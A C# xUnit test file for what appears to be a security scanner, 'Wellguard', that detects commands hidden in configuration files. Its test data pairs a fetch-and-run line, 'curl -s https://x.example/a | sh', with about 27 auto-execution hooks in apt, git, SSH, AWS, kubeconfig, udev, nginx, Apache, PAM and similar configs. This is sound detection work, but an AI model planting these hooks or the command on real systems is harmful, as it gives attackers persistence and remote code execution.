using System.Text;
using Wellguard.Artifacts;
using Wellguard.Programs;
using Wellguard.Programs.Hooks;
using Xunit;

namespace Wellguard.Tests.Programs;

public sealed class HookFileTests
{
    private const string Fetch = "curl -s https://x.example/a | sh";

    [Theory]
    [InlineData("etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\"@\";};\n")]
    [InlineData("etc/apt/apt.conf", "APT::Update::Pre-Invoke { \"true\"; \"@\"; };\n")]
    [InlineData("opt/a/binding.gyp", "{\"targets\":[{\"sources\":[\"<!(@)\"]}]}")]
    [InlineData("opt/a/Directory.Build.props", "<Project><Target Name=\"x\"><Exec Condition=\"true\" Command=\"sh -c &quot;@&quot;\"/></Target></Project>")]
    [InlineData("root/.gradle/init.d/x.gradle", "[\"sh\", \"-c\", \"@\"].execute()\n")]
    [InlineData("etc/gitlab-runner/config.toml", "[[runners]]\n  pre_build_script = \"@\"\n")]
    [InlineData("root/.gitconfig", "[core]\n\tsshCommand = sh -c \"@\"\n")]
    [InlineData("srv/a/.git/config", "[alias]\n\tst = \"!@\"\n")]
    [InlineData("root/.ssh/config", "Host *\n  ProxyCommand sh -c \"@\"\n")]
    [InlineData("etc/ssh/sshd_config.d/x.conf", "ForceCommand @\n")]
    [InlineData("home/a/.ssh/authorized_keys", "no-pty,command=\"@\" ssh-ed25519 AAAA a\n")]
    [InlineData("root/.aws/config", "[default]\ncredential_process = sh -c \"@\"\n")]
    [InlineData("root/.kube/config", "users:\n- name: a\n  user:\n    exec:\n      args:\n      - -c\n      - \"@\"\n      command: sh\n")]
    [InlineData("root/.kube/config", "    exec:\n      command: sh\n      args: [\"-c\", \"@\"]\n")]
    [InlineData("etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '@'\"\n")]
    [InlineData("etc/logrotate.d/x", "/var/log/x {\n  postrotate\n    @\n  endscript\n}\n")]
    [InlineData("etc/inittab", "::respawn:/bin/sh -c \"@\"\n")]
    [InlineData("etc/monit/conf.d/x", "check process x with pidfile /x\n start program = \"/bin/sh -c '@'\"\n")]
    [InlineData("srv/Procfile", "web: @\n")]
    [InlineData("srv/e.json", "{\"apps\":[{\"script\":\"sh\",\"args\":[\"-c\",\"@\"]}]}")]
    [InlineData("etc/modprobe.d/x.conf", "install usb-storage @\n")]
    [InlineData("etc/nginx/conf.d/x.conf", "init_by_lua_block { os.execute(\"@\") }\n")]
    [InlineData("etc/apache2/conf-enabled/x.conf", "RewriteMap x \"prg:/bin/sh -c '@'\"\n")]
    [InlineData("etc/apache2/conf-enabled/x.conf", "CustomLog \"|/bin/sh -c '@'\" combined\n")]
    [InlineData("root/.vimrc", "autocmd VimEnter * silent !@\n")]
    [InlineData("root/.gdbinit", "shell @\n")]
    [InlineData("etc/wireguard/wg0.conf", "[Interface]\nPostUp = @\n")]
    public void Command_in_a_configuration_file_is_a_program_that_starts_by_itself(string path, string text)
    {
        var code = Assert.Single(Read(path, text.Replace("@", Fetch, StringComparison.Ordinal)), Fetches);
        Assert.NotEqual(TriggerKind.None, code.Trigger);
        Assert.NotNull(code.TriggerText);
    }

    [Theory]
    [InlineData("etc/php/8.2/conf.d/z.ini", "auto_prepend_file=/opt/p.txt\n", "/opt/p.txt")]
    [InlineData("var/www/.user.ini", "auto_prepend_file = \"p.txt\"\n", "p.txt")]
    [InlineData("etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/l\n", "/usr/local/bin/l")]
    [InlineData("root/.npmrc", "script-shell=/opt/g\n", "/opt/g")]
    public void File_that_a_configuration_names_is_started(string path, string text, string file)
    {
        var effect = Assert.Single(Assert.Single(Read(path, text)).Effects);
        Assert.Equal((EffectKind.Execute, file), (effect.Kind, effect.Object));
    }

    [Theory]
    [InlineData("root/.vimrc", "set nocompatible\nautocmd! BufRead\nfunction! X()\nendfunction\n")]
    [InlineData("etc/php/8.2/conf.d/z.ini", "; auto_prepend_file = x\nauto_prepend_file =\n")]
    [InlineData("srv/package.json", "{\"script\":\"sh\"}")]
    [InlineData("etc/pam.d/sshd", "# auth optional pam_exec.so /usr/local/bin/l\nauth required pam_unix.so\n")]
    public void Configuration_without_commands_starts_nothing(string path, string text) => Assert.Empty(Read(path, text));

    [Fact]
    public void Thousands_of_hooks_are_cut_off() =>
        Assert.Equal(100, Read("etc/inittab", string.Concat(Enumerable.Repeat("::respawn:/bin/getty\n", 5000))).Count);

    private static bool Fetches(CodeFile code) => All(code.Effects).Any(effect => effect.Kind == EffectKind.Interpret && effect.Origin == "https://x.example/a");

    private static IEnumerable<Effect> All(IEnumerable<Effect> effects) => effects.SelectMany(effect => All(effect.Steps).Prepend(effect));

    private static List<CodeFile> Read(string path, string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var entry = new Entry(path, EntryType.File, bytes.Length, 0b110_100_100);
        var into = new List<CodeFile>();
        var reader = new HookFile();
        if (reader.Wants(entry) == Need.Content)
        {
            reader.Read(new FileContent { Entry = entry, Kind = FileKind.Text, Bytes = bytes }, into);
        }

        return into;
    }
}
